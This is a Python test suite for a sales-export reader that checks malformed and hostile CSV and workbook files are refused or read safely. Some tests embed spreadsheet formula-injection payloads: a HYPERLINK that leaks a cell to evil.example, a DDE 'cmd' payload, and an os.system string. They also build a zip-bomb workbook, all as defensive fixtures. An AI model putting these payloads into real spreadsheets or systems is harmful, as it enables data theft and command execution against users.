"""Hostile and broken exports: every file either raises a salesinsight error that says what is
wrong and how to fix it, or is read with each data row kept once or dropped once and every dropped
or changed value explained in the ledger.

The small files live in ``tests/data/bad`` with their expected outcomes in ``expected.csv``; the
big ones (a 200 MB line, 100,000 columns) are written to a temporary directory by the tests.
"""

from __future__ import annotations

import builtins
import io
import os
import pickle
import re
import subprocess
import warnings
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from salesinsight.exceptions import (
    DataQualityWarning,
    ExportFormatError,
    FileTooLargeError,
    SalesInsightError,
)
from salesinsight.export import check_invariant, read_export
from salesinsight.io import DEFAULT_MAX_BYTES
from salesinsight.io.files import read_table

BAD = Path(__file__).parent / "data" / "bad"
EXPORTS = Path(__file__).parent / "data" / "exports"
EXPECTED = pd.read_csv(BAD / "expected.csv", dtype=str, keep_default_na=False)
ERRORS = EXPECTED[EXPECTED["outcome"] == "error"].to_dict("records")
READS = EXPECTED[EXPECTED["outcome"] == "read"].to_dict("records")
HEADER = '"Opportunity Owner","Account Name","Opportunity Name","Stage","Amount","Close Date","Created Date"'
ROW = '"Ann Lee","Acme Corp","Acme - 10 seats","Closed Won","$22,700.00","6/12/2024","3/1/2024"'
# Export header -> canonical columns holding its value (a close date is closed_at or, for an
# open deal, expected_close_at).
VALUE_COLUMNS = {
    "Amount": ("amount",),
    "Created Date": ("created_at",),
    "Create Date": ("created_at",),
    "Close Date": ("closed_at", "expected_close_at"),
}


def read(path: Path, **kwargs):
    """read_export, returning the export and the DataQualityWarnings it gave."""
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        export = read_export(path, **kwargs)
    quality = [str(w.message) for w in caught if issubclass(w.category, DataQualityWarning)]
    return export, quality


def expected_ledger(text: str) -> list[tuple[int, str, str | None, str]]:
    entries = []
    for item in filter(None, (s.strip() for s in text.split(" ; "))):
        row, action, column, keyword = item.split(":", 3)
        entries.append((int(row), action, None if column == "-" else column, keyword))
    return entries


def assert_changed_values_explained(export, path: Path) -> None:
    """Every amount or date present in the file but missing in deals has a ledger row."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DataQualityWarning)
        raw = read_table(path)
    cells = raw.table.to_pandas().set_axis(raw.source_row)
    ledger = export.ledger
    for deal in export.deals.to_dict("records"):
        row = deal["source_row"]
        for header, columns in VALUE_COLUMNS.items():
            if header not in cells or pd.isna(cells.at[row, header]):
                continue
            if all(pd.isna(deal[c]) for c in columns):
                mine = ledger[(ledger["source_row"] == row) & ledger["column"].isin(columns)]
                assert len(mine), f"{path.name} row {row}: `{header}` lost without a ledger row"


class TestCorpus:
    def test_every_file_has_an_expected_outcome(self):
        files = {p.name for p in BAD.iterdir() if not p.name.startswith(".")} - {"expected.csv"}
        assert files == set(EXPECTED["file"])

    @pytest.mark.parametrize("case", ERRORS, ids=[c["file"] for c in ERRORS])
    def test_error_says_what_is_wrong_and_how_to_fix_it(self, case):
        with pytest.raises(SalesInsightError) as info:
            read(BAD / case["file"])
        assert type(info.value).__name__ == case["error"]
        assert re.search(case["message"], str(info.value), re.DOTALL), str(info.value)

    @pytest.mark.parametrize("case", READS, ids=[c["file"] for c in READS])
    def test_read_keeps_or_explains_every_row(self, case):
        path = BAD / case["file"]
        export, quality = read(path)
        check_invariant(export, {case["file"]: int(case["rows_read"])})
        assert len(export.deals) == int(case["deals"])
        if case["warning"]:
            assert any(re.search(case["warning"], w) for w in quality), quality
        want = expected_ledger(case["ledger"])
        got = export.ledger
        found = got[["source_row", "action", "column"]].fillna({"column": "-"})
        assert sorted(map(tuple, found.values.tolist())) == sorted(
            (r, a, c or "-") for r, a, c, _ in want
        )
        for row, action, column, keyword in want:
            mine = got[(got["source_row"] == row) & (got["action"] == action)]
            if column is not None:
                mine = mine[mine["column"] == column]
            assert mine["reason"].str.contains(keyword, regex=False).any(), (row, keyword)
        assert_changed_values_explained(export, path)


def deals_of(name: str) -> pd.DataFrame:
    export, _ = read(BAD / name)
    return export.deals.set_index("deal_name")


class TestCorpusValues:
    def test_truncated_row_never_becomes_a_wrong_amount(self):
        deals = deals_of("truncated_last_line.csv")
        assert deals["amount"].tolist() == [22700.0, 5000.0, 1200.0]
        assert "Delta - big" not in deals.index

    def test_rows_after_an_unclosed_quote_are_read_again(self):
        deals = deals_of("unbalanced_quotes.csv")
        assert deals.loc["Gamma - platform", "amount"] == 1200.0
        assert deals.loc["Delta - big", "status"] == "won"
        assert deals["source_row"].tolist() == [1, 3, 4]

    def test_stray_quote_row_is_dropped_not_shifted(self):
        deals = deals_of("stray_quote.csv")
        assert deals["stage"].tolist() == ["Closed Won", "Closed Lost"]

    def test_embedded_newlines_stay_in_the_cell(self):
        deals = deals_of("embedded_newlines.csv")
        assert "Acme - 10 seats\nphase 1\r\nphase 2" in deals.index
        assert deals["source_row"].tolist() == [1, 2, 3]

    def test_rows_with_another_delimiter_are_split_on_it(self):
        deals = deals_of("mixed_delimiters.csv")
        assert deals["amount"].tolist() == [22700.0, 5000.0, 1200.0, 9000.0]
        assert deals["status"].tolist() == ["won", "open", "lost", "won"]

    def test_repeated_header_is_not_a_deal(self):
        deals = deals_of("header_repeated.csv")
        assert "Opportunity Name" not in deals.index
        assert deals["amount"].notna().all()

    def test_concatenated_reports_keep_each_deal_once(self):
        export, _ = read(BAD / "concatenated_reports.csv")
        assert export.deals["deal_name"].tolist() == [
            "Acme - 10 seats",
            "Beta - pilot",
            "Gamma - platform",
        ]
        summary = export.summary().iloc[0]
        assert (summary["dropped_header"], summary["dropped_duplicate"]) == (1, 1)
        assert summary["dropped_footer"] + summary["dropped_blank"] == 10

    def test_duplicated_column_first_is_read_second_kept(self):
        deals = deals_of("duplicate_columns.csv")
        assert deals["amount"].tolist() == [22700.0, 5000.0, 1200.0]
        assert deals["amount_2"].tolist() == ["$1.00", "$2.00", "$3.00"]

    def test_all_amounts_unparseable_are_missing_not_zero(self):
        deals = deals_of("amounts_unparseable.csv")
        assert deals["amount"].isna().all()

    def test_three_date_formats_give_one_date(self):
        created = deals_of("three_date_formats.csv")["created_at"]
        assert created.iloc[:3].astype(str).tolist() == ["2024-03-15"] * 3
        assert pd.isna(created.iloc[3])

    def test_negative_and_absurd_amounts_are_missing(self):
        deals = deals_of("absurd_amounts.csv")
        assert deals["amount"].isna().all()
        assert deals["amount_original"].iloc[:3].tolist() == [-5000.0, 1e15, 1e15]

    def test_placeholder_dates_are_missing(self):
        deals = deals_of("dates_1900_2100.csv")
        assert deals["created_at"].isna().tolist() == [True, False, False, True]
        assert deals[["closed_at", "expected_close_at"]].isna().all(axis=1).tolist() == [
            False,
            True,
            True,
            False,
        ]

    def test_cp1252_header_with_utf8_body(self):
        export, _ = read(BAD / "non_utf8_header.csv")
        assert export.summary()["encoding"].iloc[0] == "cp1252"
        assert export.deals["region"].tolist() == ["Süd", "Nord", "Ost"]
        assert export.deals["account"].iloc[0] == "Müller GmbH"
        assert "umsatz" in export.deals.columns

    def test_no_byte_order_mark_reaches_a_value(self):
        export, _ = read(BAD / "bom_middle.csv")
        text = export.deals.select_dtypes(exclude=["number", "datetime"])
        assert not text.apply(lambda c: c.astype(str).str.contains("\ufeff")).any().any()
        assert export.deals["owner"].tolist() == ["Ann Lee", "Bob Stone", "Cara Diaz"]

    def test_formulas_are_kept_as_inert_text(self):
        deals = deals_of("formulas.csv").reset_index()
        assert deals["deal_name"].tolist() == [
            '=HYPERLINK("http://evil.example/?leak="&A1,"Acme - 10 seats")',
            "Beta - pilot",
            "-2+3",
            "__import__('os').system('echo pwned')",
        ]
        assert deals["account"].iloc[1] == "+cmd|' /C calc'!A0"

    def test_scientific_ids_do_not_merge_deals(self):
        export, _ = read(BAD / "scientific_ids.csv")
        deals = export.deals
        assert deals["deal_id"].is_unique
        assert deals["deal_id"].iloc[2] == "601234567890"
        assert deals["deal_id"].drop(index=2).str.startswith("deal-").all()
        assert deals["account_id"].tolist() == ["acme", "beta", "9123456789", "9123456790"]
        assert (export.ledger["action"] != "dropped").all()

    def test_a_distinct_id_that_reads_like_a_number_is_kept(self, tmp_path):
        path = tmp_path / "opportunities.csv"
        path.write_text(
            "Id,AccountId,Name,StageName,Amount,CloseDate,CreatedDate,IsWon,IsClosed\n"
            "006E0000000000,001E0000000001,Acme,Closed Won,100,2024-04-30,2024-01-15,true,true\n"
            "006E0000000001,001E0000000001,Acme 2,Closed Won,100,2024-05-30,2024-02-15,true,true\n"
            "006A0000000002,001E0000000003,Beta,Prospecting,100,2024-06-30,2024-03-15,false,false\n"
        )
        export = read_export(path)
        assert export.deals["deal_id"].tolist() == [
            "006E0000000000",
            "006E0000000001",
            "006A0000000002",
        ]
        assert export.deals["account_id"].tolist()[:2] == ["001E0000000001"] * 2
        assert not export.ledger["reason"].str.contains("scientific").any()

    def test_colliding_ids_that_read_like_numbers_are_replaced(self, tmp_path):
        path = tmp_path / "deals.csv"
        path.write_text(
            "Deal ID,Deal Name,Stage,Amount,Created Date\n"
            "6E13,Acme,Won,10,2024-01-02\n"
            "6E13,Beta,Lost,20,2024-01-03\n"
        )
        export = read_export(path)
        assert export.deals["deal_id"].str.startswith("deal-").all()
        assert (export.ledger["action"] == "fixed").sum() == 2


class TestForcedEncoding:
    def test_wrong_encoding_is_refused_not_replaced(self):
        with pytest.raises(ExportFormatError, match=r"cannot be decoded as utf-8.*omit encoding="):
            read(BAD / "non_utf8_header.csv", encoding="utf-8")

    def test_unknown_encoding_is_named(self):
        with pytest.raises(ExportFormatError, match=r"cannot be decoded as klingon"):
            read(BAD / "formulas.csv", encoding="klingon")


class TestBlankLines:
    @pytest.mark.parametrize("newline", ["\n", "\r\n"])
    def test_blank_line_right_after_the_header_is_a_dropped_row(self, tmp_path, newline):
        path = tmp_path / "deals.csv"
        path.write_bytes(newline.join([HEADER, "", ROW, ROW.replace("Ann", "Bo"), ""]).encode())
        export, _ = read(path)
        check_invariant(export, {"deals.csv": 3})
        assert export.ledger[["source_row", "action"]].values.tolist() == [[1, "dropped"]]
        assert export.deals["source_row"].tolist() == [2, 3]


def salesforce_file(path: Path, rows: list[str]) -> Path:
    path.write_text("\r\n".join([HEADER, *rows]) + "\r\n")
    return path


class TestHugeFiles:
    def test_200_mb_single_line_is_not_a_table(self, tmp_path):
        path = tmp_path / "one_line.csv"
        with path.open("wb") as f:
            f.write(HEADER.encode() + b",")
            f.write(b'"x",' * 50_000_000)
        with pytest.raises(ExportFormatError, match=r"no line break in its first 16,777,216 bytes"):
            read(path)

    def test_200_mb_cell_is_read_in_one_piece(self, tmp_path):
        path = tmp_path / "long_cell.csv"
        with path.open("wb") as f:
            f.write(f"{HEADER}\n{ROW}\n".encode())
            f.write(
                b'"Bob","Beta","' + b"x" * 200_000_000 + b'","Prospecting","$5.00",,"5/1/2024"\n'
            )
        export, _ = read(path)
        check_invariant(export, {"long_cell.csv": 2})
        assert export.deals["deal_name"].str.len().tolist() == [15, 200_000_000]

    def test_100_000_columns_are_refused_naming_the_count(self, tmp_path):
        path = tmp_path / "wide.csv"
        extra = ",".join(f"Custom {i}" for i in range(100_000))
        salesforce_file(path, [ROW + "," + ",".join(["1"] * 100_000)])
        path.write_text(path.read_text().replace(HEADER, f"{HEADER},{extra}", 1))
        with pytest.raises(ExportFormatError, match=r"has 100,007 columns.*export again"):
            read(path)

    def test_one_row_of_100_000_fields_is_dropped_not_widening_the_table(self, tmp_path):
        path = salesforce_file(
            tmp_path / "wide_row.csv", [ROW, ROW.replace("Ann", "Bo") + ",x" * 100_000]
        )
        export, _ = read(path)
        check_invariant(export, {"wide_row.csv": 2})
        assert len(export.deals) == 1 and len(export.deals.columns) < 30
        assert "100,007 fields" in export.ledger["reason"].iloc[0]


class TestSizeGuard:
    def test_refuses_a_file_above_the_limit_naming_it_and_the_fix(self, tmp_path):
        path = salesforce_file(tmp_path / "deals.csv", [ROW] * 50)
        size = path.stat().st_size
        with pytest.raises(FileTooLargeError) as info:
            read(path, max_bytes=1000)
        message = str(info.value)
        assert f"{size:,} bytes" in message and "limit of 1,000 bytes" in message
        assert f"max_bytes={size + 1}" in message
        export, _ = read(path, max_bytes=size)
        assert len(export.deals) == 1

    def test_the_file_is_not_read_before_the_check(self, tmp_path, monkeypatch):
        path = salesforce_file(tmp_path / "deals.csv", [ROW] * 50)

        def no_read(self):
            raise AssertionError("read before the size check")

        monkeypatch.setattr(Path, "read_bytes", no_read)
        with pytest.raises(FileTooLargeError):
            read_export(path, max_bytes=100)

    def test_workbook_that_unpacks_beyond_the_limit_is_refused(self, tmp_path):
        path = tmp_path / "bomb.xlsx"
        book = openpyxl.Workbook()
        sheet = book.active
        sheet.append(HEADER.replace('"', "").split(","))
        for _ in range(2000):
            sheet.append(["Ann", "Acme", "x" * 200, "Closed Won", 1, "6/12/2024", "3/1/2024"])
        book.save(path)
        size = path.stat().st_size
        with pytest.raises(FileTooLargeError, match=r"unpacks to [\d,]+ bytes.*max_bytes="):
            read(path, max_bytes=size * 2)

    def test_default_limit_is_two_gibibytes(self):
        assert DEFAULT_MAX_BYTES == 2 * 1024**3


@pytest.fixture
def nothing_runs(monkeypatch):
    """Make every way of running code found in a file fail loudly."""

    def refuse(*args, **kwargs):
        raise AssertionError(f"tried to run {args[:1]!r}")

    for target, name in (
        (builtins, "eval"),
        (builtins, "exec"),
        (os, "system"),
        (os, "popen"),
        (subprocess, "Popen"),
        (pickle, "loads"),
    ):
        monkeypatch.setattr(target, name, refuse)


class TestNothingIsEvaluated:
    def test_csv_formulas_and_code_stay_text(self, nothing_runs):
        export = read_export(BAD / "formulas.csv")
        assert export.deals["deal_name"].str.startswith(("=", "_", "-", "B")).all()

    def test_workbook_formulas_are_cached_values_or_text(self, tmp_path, nothing_runs):
        path = tmp_path / "formulas.xlsx"
        book = openpyxl.Workbook()
        sheet = book.active
        sheet.append(HEADER.replace('"', "").split(","))
        sheet.append(["Ann", "Acme", '=HYPERLINK("http://x","y")', "Closed Won", "=1000*2"])
        sheet.append(["Bob", "Beta", "Beta - pilot", "Prospecting", 5000])
        for row in (2, 3):
            sheet.cell(row=row, column=6, value="6/12/2024")
            sheet.cell(row=row, column=7, value="3/1/2024")
        book.save(path)
        export = read_export(path, dayfirst=False)
        deals = export.deals
        assert deals["deal_name"].tolist() == ['=HYPERLINK("http://x","y")', "Beta - pilot"]
        assert deals["amount"].isna().tolist() == [True, False]
        bad = export.ledger[export.ledger["column"] == "amount"]
        assert bad[["source_row", "value"]].values.tolist() == [[1, "=1000*2"]]


MUTATIONS = [
    b'"',
    b",",
    b";",
    b"\t",
    b"\n",
    b"\r\n",
    b"\r",
    b"\x00",
    b"\xef\xbb\xbf",
    b"\xff\xfe",
    b"\xc3",
    b"Grand Totals (3 records)",
    b"TEST",
    b"6.0E+11",
    b"1e15",
    b"=1+1",
    b"",
]
SOURCES = sorted(p for p in EXPORTS.glob("*.csv"))


@st.composite
def mutated_export(draw):
    source = draw(st.sampled_from(SOURCES))
    data = bytearray(source.read_bytes())
    for _ in range(draw(st.integers(1, 6))):
        at = draw(st.integers(0, len(data)))
        token = draw(st.sampled_from(MUTATIONS))
        if draw(st.booleans()):
            data[at:at] = token
        else:
            data[at : at + draw(st.integers(1, 20))] = token
    if draw(st.integers(0, 4)) == 0:
        data = data[: draw(st.integers(0, len(data)))]
    return source.name, bytes(data)


class TestMutatedExports:
    @settings(
        max_examples=60,
        deadline=None,
        derandomize=True,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(case=mutated_export())
    def test_reads_with_the_invariant_or_raises_our_error(self, case, tmp_path):
        name, data = case
        path = tmp_path / name
        path.write_bytes(data)
        try:
            export, _ = read(path)
        except SalesInsightError as err:
            assert str(err)
            return
        check_invariant(export)
        assert np.isfinite(export.deals["amount"].dropna()).all()
        assert (export.deals["amount"].dropna() >= 0).all()


def test_zip_inside_is_named_even_when_nested(tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("export/deals.csv", "a,b\n")
        archive.writestr("export/notes.txt", "x")
    path = tmp_path / "deals.xlsx"
    path.write_bytes(buffer.getvalue())
    with pytest.raises(ExportFormatError, match=r"`export/deals\.csv`, `export/notes\.txt`"):
        read(path)
